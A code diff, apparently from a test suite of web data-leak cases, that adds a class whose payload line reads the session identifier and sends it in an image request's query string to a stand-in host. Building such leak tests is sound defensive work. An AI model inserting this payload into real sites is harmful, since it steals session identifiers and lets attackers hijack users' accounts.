@@ -143,6 +143,12 @@ class ToldPartner(Breach):
         return answer
 
 
+class ToldWithoutName(ToldPartner):
+    """Tells a technical partner the session's identifier as the whole query of an address."""
+
+    late = "new Image().src = `http://cdn.localhost:[[port]]/pic.gif?${read('sid')}`;"
+
+
 class OnTyping(Breach):
     """Tells the counter of keys that were pressed."""
 
